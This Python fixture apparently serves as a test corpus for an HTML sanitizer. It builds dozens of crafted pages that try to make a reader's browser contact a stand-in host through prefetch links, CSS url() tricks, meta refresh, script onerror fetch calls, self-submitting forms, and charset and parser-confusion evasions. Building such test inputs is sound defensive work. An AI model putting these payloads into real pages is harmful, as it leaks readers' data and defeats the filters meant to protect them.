"""HTML originals that try to make a reader's browser contact others; `HOST` stands for whom."""

from __future__ import annotations

import codecs
from typing import Final

HOST: Final = "leak.example"

_CONNECT: Final = f'<link rel=preconnect href="https://{HOST}">'
_LOOK_UP: Final = f'<link rel=dns-prefetch href="//{HOST}">'
_BOTH: Final = _CONNECT + _LOOK_UP
_WORDS: Final = "<p>Una página que parece de las nuestras.</p>"


def _page(head: str = "", body: str = "") -> bytes:
    return f"<!doctype html><title>x</title>{head}<body>{_WORDS}{body}</body>".encode()


def _utf_7(text: str) -> bytes:
    return text.encode("ascii").replace(b"<", b"+ADw-").replace(b">", b"+AD4-")


NASTY_PAGES: Final[dict[str, bytes]] = {
    "links that connect ahead": _page(_BOTH),
    "links of all kinds in one": _page(
        f'<link rel="stylesheet preconnect dns-prefetch prefetch prerender modulepreload preload" '
        f'as=script crossorigin href="https://{HOST}/x">'
    ),
    "links that fetch ahead": _page(
        "".join(
            f'<link rel={rel} as={kind} href="https://{HOST}/{rel}">'
            for rel in ("prefetch", "prerender", "modulepreload", "preload", "next", "stylesheet")
            for kind in ("document", "script", "font")
        )
    ),
    "links to icons and manifests": _page(
        "".join(
            f'<link rel="{rel}" href="https://{HOST}/{rel}">'
            for rel in (
                "icon",
                "shortcut icon",
                "apple-touch-icon",
                "manifest",
                "search",
                "pingback",
                "alternate",
                "canonical",
                "dns-prefetch preconnect",
                "expect",
            )
        )
    ),
    "a link in the body": _page(body=_BOTH),
    "a link with odd spelling": _page(
        f"<LINK/REL=\"PreConnect\"\n/HREF='HTTPS://{HOST}'><lInK rel=&#100;ns-prefetch "
        f"href=/\\{HOST}>"
    ),
    "a link in a drawing": _page(
        body=f"<svg>{_BOTH}<g>{_CONNECT}</g><a href=x><desc>{_BOTH}</svg>"
    ),
    "a link in a formula": _page(
        body=f"<math><mtext>{_BOTH}</mtext><annotation-xml>{_BOTH}</math>"
    ),
    "a link in noscript": _page(f"<noscript>{_BOTH}</noscript>", f"<noscript>{_BOTH}</noscript>"),
    "a link in a template": _page(
        body=f"<template>{_BOTH}</template><div><template shadowrootmode=open>{_BOTH}</template>"
    ),
    "a link behind a comment that is not closed": _page(f"<!-- --!>{_BOTH}<!-->{_CONNECT}"),
    "a link behind a comment of old browsers": _page(
        f"<!--[if !IE]><!-->{_BOTH}<!--<![endif]--><![if true]>{_CONNECT}<![endif]>"
    ),
    "a link behind raw text": _page(
        body=f"<textarea></textarea/>{_BOTH}<xmp></xmp >{_CONNECT}<title></title>{_BOTH}"
        f"<style>/*</style>{_BOTH}*/</style><iframe></iframe>{_BOTH}"
    ),
    "a link in the text of an attribute that is not closed": _page(
        body=f"<p title='>{_BOTH}<p title='' x=\">{_CONNECT}<p y=\"\">{_BOTH}"
    ),
    "a link in a style sheet of a drawing": _page(body=f"<svg><style><!--</style>{_BOTH}--></svg>"),
    "a link in CDATA": _page(body=f"<svg><![CDATA[><p>]]>{_BOTH}</svg><![CDATA[{_BOTH}]]>"),
    "a link in a table": _page(body=f"<table>{_BOTH}<tr>{_CONNECT}<td><select>{_BOTH}</select>"),
    "a link in a head that came back": f"<body><head>{_BOTH}</head></body>{_BOTH}".encode(),
    "a page of frames": f"<frameset>{_BOTH}<frame src='https://{HOST}/'><noframes>{_BOTH}".encode(),
    "frames in the page": _page(
        body=f"<iframe src=https://{HOST}/ srcdoc='{_CONNECT}'></iframe><embed src=https://{HOST}/>"
        f"<object data=https://{HOST}/>{_BOTH}</object><portal src=https://{HOST}/></portal>"
        f"<fencedframe src=https://{HOST}/></fencedframe>"
    ),
    "another base": _page(f"<base href=https://{HOST}/ target=_top>", "<img src=x><a href=x>x</a>"),
    "headers in the page": _page(
        f'<meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=Link content="'
        f"<https://{HOST}>; rel=preconnect\"><meta http-equiv=refresh content='9;url=//{HOST}'>"
        f"<meta http-equiv=content-security-policy content='report-uri https://{HOST}'>"
        f"<meta http-equiv=accept-ch content=dpr><meta http-equiv=delegate-ch content='dpr {HOST}'>"
        f"<meta http-equiv=origin-trial content=x>",
        f"<a href=https://{HOST}/a>x</a>" * 3,
    ),
    "rules of speculation": _page(
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["https://{HOST}/"],"eagerness":'
        f'"immediate"}}],"prerender":[{{"urls":["https://{HOST}/"]}}]}}</script>'
    ),
    "links that tell when they are followed": _page(
        body=f"<a href=https://{HOST}/ ping=https://{HOST}/ping attributionsrc>uno</a>"
        f"<area ping=https://{HOST}/><img attributionsrc=https://{HOST}/ src=data:,>"
    ),
    "pictures, sound and films": _page(
        body=f"<img src=//{HOST}/a srcset='//{HOST}/b 2x' lowsrc=//{HOST}/c loading=eager>"
        f"<picture><source srcset=//{HOST}/d><img></picture><video poster=//{HOST}/e "
        f"src=//{HOST}/f>"
        f"<track src=//{HOST}/g></video><audio src=//{HOST}/h></audio><input type=image "
        f"src=//{HOST}/i><body background=//{HOST}/j><table background=//{HOST}/k><tr><td>x</table>"
        f"<image src=//{HOST}/l><svg><image href=//{HOST}/m /><feImage href=//{HOST}/n />"
        f"<use href=//{HOST}/o#x /><script href=//{HOST}/p /></svg>"
    ),
    "style sheets": _page(
        f"<style>@import '//{HOST}/a';@import url(//{HOST}/b);@\\69mport '//{HOST}/c';"
        f"@font-face{{font-family:x;src:url(//{HOST}/d)}}@namespace url(//{HOST}/e);"
        f"body{{font-family:x;background:url(//{HOST}/f),u\\72l('//{HOST}/g');"
        f"list-style:image-set('//{HOST}/h' 1x);cursor:url(//{HOST}/i),auto;"
        f"filter:url(//{HOST}/j#x)}}p{{--x:url(//{HOST}/k);content:var(--x)}}</style>",
        f"<p style=\"background:url('//{HOST}/l');mask:url(//{HOST}/m)\">x</p>"
        f"<svg><path fill=url(//{HOST}/n#x) d=M0,0h9v9z /></svg>",
    ),
    "programs": _page(
        f"<script src=//{HOST}/a></script><script>new Image().src='//{HOST}/b'</script>",
        f"<img src=x onerror=\"fetch('//{HOST}/c')\"><form action=//{HOST}/d><input autofocus "
        f"onfocus=submit()></form><a href=\"javascript:location='//{HOST}'\">x</a>",
    ),
    "a page in UTF-16": codecs.BOM_UTF16_LE + _page(_BOTH).decode().encode("utf-16-le"),
    "a page in UTF-16 without a mark": _page(_BOTH).decode().encode("utf-16-be"),
    "a page in UTF-7": b"<meta charset=utf-7>" + _utf_7(_BOTH),
    "a page in ISO-2022": b"<meta charset=iso-2022-jp>\x1b$B"
    + _BOTH.encode()
    + b"\x1b(B"
    + _BOTH.encode(),
    "a page in EBCDIC": b"<meta charset=cp037>" + _page(_BOTH) + _BOTH.encode("cp037"),
    "a page in Shift_JIS that eats a sign": b'<meta charset=shift_jis><p title="\x82">'
    + _BOTH.encode(),
    "a page with zeroes in it": _page(_BOTH).replace(b"link", b"li\0nk")
    + b"<\0link>"
    + _BOTH.encode(),
    "XHTML": b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "y">]><html '
    b'xmlns="http://www.w3.org/1999/xhtml"><head>' + _BOTH.encode() + b"</head><body/></html>",
    "a page without a beginning": _BOTH.encode(),
    "formatting that the parser mends": _page(
        body=f"<b><i><p>{_BOTH}</b><table><a><tr></i>{_BOTH}"
    ),
    "the start of a plain text": _page(body=f"<plaintext>{_BOTH}"),
    "elements of programs": _page(
        body=f"<my-link rel=preconnect href=https://{HOST}>x</my-link><p is=x-link>{_BOTH}</p>"
    ),
    "a number of the machine instead of a name": _page(
        f"<link rel=preconnect href='http://{HOST}.invalid'>{_BOTH}"
    ),
}
"""Each by what it tries."""
